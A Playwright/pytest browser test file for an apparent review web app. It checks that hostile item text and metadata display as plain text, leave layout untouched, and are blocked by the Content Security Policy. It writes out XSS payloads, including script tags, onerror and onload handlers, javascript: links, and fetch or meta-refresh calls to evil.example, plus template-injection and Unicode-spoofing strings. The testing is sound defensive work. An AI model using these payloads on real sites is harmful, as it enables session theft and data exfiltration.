"""In a real browser: content that attacks the page is text, all of it, and moves nothing outside its box."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from tests.review.browser_helpers import (
    READ_TEXT,
    MakeSite,
    ReviewSite,
    answer_by_key,
    did_nothing_odd,
    shown_text,
    task_of,
)

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser
AWAY = "http://evil.example"
HOSTILE = {
    "script": f"<script>alert(1);fetch('{AWAY}/a')</script></pre><script>alert(2)</script>",
    "handlers": '<img src=x onerror=alert(1)> <body onload=alert(2)> <input autofocus onfocus="alert(3)">',
    "breaking out": "</pre></article></main></body>\"></span>'>--><!-- ]]> <plaintext><textarea><title>",
    "javascript address": '<a href="javascript:alert(1)">click</a> <iframe src="javascript:alert(2)"></iframe>',
    "svg": f'<svg onload=alert(1)><use href="{AWAY}/x.svg#a"/><animate onbegin=alert(2)></svg>',
    "loads": f'<img src="{AWAY}/p.png"><link rel=stylesheet href="{AWAY}/s.css"><meta http-equiv=refresh content="0;url={AWAY}">',
    "base and form": f'<base href="{AWAY}/"><form action="{AWAY}"><button autofocus>Send</button></form>',
    "style": "<style>*{display:none!important}body{background:red}</style><p style='position:fixed;inset:0'>",
    "template": "{{7*7}} {% raw %} ${7*7} #{7*7} {{''.__class__.__mro__}} {# no comment #}",
    "htmx": '<div hx-get="/account" hx-trigger="load" hx-on::load="alert(1)" data-task data-reveal>',
    "right to left": "\u202e\u2066\u2067 gnp.exe \u202b never closed, and all the page turns round \u061c\u200f",
    "zero width": "pass\u200bword \u200d\u2060\ufeff\u00ad h\u034fi \ue000 \U000e0041\U000e0042 \u2028next\u2029last",
    "control": "a\x00b\x01c\x1b[31mred\x1b[0m\x07\x7f\x85\x9b31m end",
    "zalgo": "Z" + "\u0336\u0353\u0347\u0310\u0352" * 200 + "algo " + "\u0301" * 1_000,
    "one long line": "x" * 20_000,
    "many lines": "\n" * 3_000 + "end",
    "tall": "\ufdfd \U0001242b \u0bf5 " * 60,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \u2764\ufe0f\u200d\U0001f525",
    "tabs and breaks": "\n\n\tfirst\r\n  two  spaces\rlone\n",
    "entities": "&lt;b&gt; &amp;amp; &#x3c;script&#x3e; &nbsp; %3Cscript%3E \\u003cscript\\u003e",
    "spaces": " \u00a0\u2003\u3000 leading, trailing \u2003 ",
}
MEASURE = """() => {
  const box = name => {
    const found = document.querySelector(name).getBoundingClientRect();
    return [found.x, found.width, name === '.site-header' ? found.y + scrollY : 0, found.height].map(Math.round);
  };
  const parts = ['.site-header', '.task-head', 'fieldset.choices', 'form.answer', '.task-foot', '.text-frame'];
  const sized = parts.slice(0, 4); // below stands progress in words, and the text has the height it needs
  document.querySelector('label.choice').scrollIntoView({block: 'center'});
  const now = document.querySelector('label.choice').getBoundingClientRect();
  const top = document.elementFromPoint(now.x + now.width / 2, now.y + now.height / 2);
  return {
    boxes: Object.fromEntries(parts.map(name => [name, sized.includes(name) ? box(name) : box(name).slice(0, 2)])),
    wide: document.documentElement.scrollWidth <= document.documentElement.clientWidth,
    frame: document.querySelector('.text-frame').getBoundingClientRect().height <= innerHeight * 0.5,
    uncovered: Boolean(top && top.closest('label.choice')),
    foreign: document.querySelectorAll('pre.content :not(span.hid)').length,
    shown: [...document.querySelectorAll('.hid')].every(mark => !mark.attributes.onclick),
    direction: getComputedStyle(document.querySelector('form.answer')).direction,
    title: document.title,
    background: getComputedStyle(document.body).backgroundColor,
  };
}"""
"""What stands around the text: where, how large, uncovered, and nothing of the content's making."""


def as_read(text: str) -> str:
    """Return a text as an HTML page can hold it: one kind of line break."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def pages_with(site: ReviewSite, page: Page) -> dict[str, tuple[str, Any]]:
    """Go through all tasks; return what is shown and measured by item id."""
    found: dict[str, tuple[str, Any]] = {}
    site.work(page)
    while task_of(page):
        item = site.desk.task("mini", task_of(page)).item_id
        found[item] = (shown_text(page), page.evaluate(MEASURE))
        answer_by_key(page, "1")
    return found


@pytest.mark.parametrize("size", [(1280, 800), (360, 740)], ids=["desk", "phone"])
def test_hostile_items_are_shown_as_stored_and_change_nothing_else(
    make_site: MakeSite, size: tuple[int, int]
) -> None:
    texts = ["a plain text", *HOSTILE.values()]
    site = make_site(texts)
    page, watched = site.person("ann", viewport={"width": size[0], "height": size[1]})
    found = pages_with(site, page)
    assert len(found) == len(texts)
    plain = found[site.place.ids[0]][1]
    assert plain["wide"]
    assert plain["uncovered"]
    for name, text, item in zip(["plain", *HOSTILE], texts, site.place.ids, strict=True):
        shown, measured = found[item]
        assert shown == as_read(text), name
        changed = {key: value for key, value in measured.items() if value != plain[key]}
        assert not changed, (name, changed, plain)
        assert measured["foreign"] == 0
    assert len(site.votes()) == len(texts)
    assert did_nothing_odd(watched)


def test_hidden_characters_are_marked_with_their_name(make_site: MakeSite) -> None:
    site = make_site(["pay\u202epal\u200b.\x00com"])
    page, _ = site.person("ann")
    site.work(page)
    marks = page.locator("pre.content .hid")
    names = marks.evaluate_all("all => all.map(mark => mark.getAttribute('aria-label'))")
    assert names == ["U+202E RIGHT-TO-LEFT OVERRIDE", "U+200B ZERO WIDTH SPACE", "U+0000 control character"]
    widths = marks.evaluate_all("all => all.map(mark => mark.getBoundingClientRect().width)")
    assert all(width > 5 for width in widths)


def test_hostile_metadata_is_text_too(make_site: MakeSite) -> None:
    attack = "<img src=x onerror=alert(1)>\u202e" + "y" * 4_000
    site = make_site(["a text", "another"], metas=[{"source": attack, attack[:60]: "1"}, {"source": "web"}])
    page, watched = site.person("ann")
    site.work(page)
    while "<img src=x" not in page.inner_text("[data-stage]"):
        answer_by_key(page, "s")
    assert page.locator(".meta img").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    assert did_nothing_odd(watched)


def test_lists_items_and_adjudication_show_hostile_content_as_text(make_site: MakeSite) -> None:
    site = make_site(list(HOSTILE.values()), people={"ann": "reviewer", "lea": "lead"}, kind="audit")
    ann, _ = site.person("ann")
    site.work(ann)
    ann.keyboard.press("f")
    ann.keyboard.press("n")
    ann.keyboard.insert_text(HOSTILE["script"] + HOSTILE["style"] + HOSTILE["right to left"])
    task = task_of(ann)
    ann.keyboard.press("Control+Enter")
    ann.wait_for_function("task => document.querySelector('[data-task]').dataset.taskId !== task", arg=task)
    lea, watched = site.person("lea")
    item = site.desk.task("mini", task).item_id
    for path in ("lead", f"lead/{task}", "items", f"items?q={quote('<script>alert')}", f"item/{item}"):
        lea.goto(f"{site.url}/p/mini/{path}")
        assert lea.locator("main script, main style, main img, main iframe, main svg[onload]").count() == 0
        assert lea.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    text = lea.locator("#item-text").evaluate(READ_TEXT)
    stored = {one: text for one, text in zip(site.place.ids, HOSTILE.values(), strict=True)}[item]
    assert text == as_read(stored)
    assert did_nothing_odd(watched)


def test_the_policy_stops_what_would_get_through_the_templates(make_site: MakeSite) -> None:
    """The second line of defence: markup that somehow reached a page runs nothing and loads nothing."""
    site = make_site(["a text"])
    page, watched = site.person("ann")
    site.work(page)
    markup = (
        '<img src="x" onerror="window.hit=1"><svg onload="window.hit=2"></svg>'
        f'<img src="{AWAY}/p.png"><iframe src="{AWAY}"></iframe><style>body{{display:none}}</style>'
        '<p style="position:fixed">'
    )
    page.evaluate(f"document.body.insertAdjacentHTML('beforeend', {json.dumps(markup)})")
    page.evaluate("""() => {
        const script = document.createElement('script');
        script.textContent = 'window.hit=3';
        document.body.append(script);
    }""")
    fetched = page.evaluate(f"fetch('{AWAY}/data').then(() => 'sent', () => 'stopped')")
    assert fetched == "stopped"
    page.wait_for_function("() => performance.now() > 0")
    assert page.evaluate("window.hit") is None
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert watched.dialogs == []
    assert len([line for line in watched.console if "Content Security Policy" in line]) >= 5
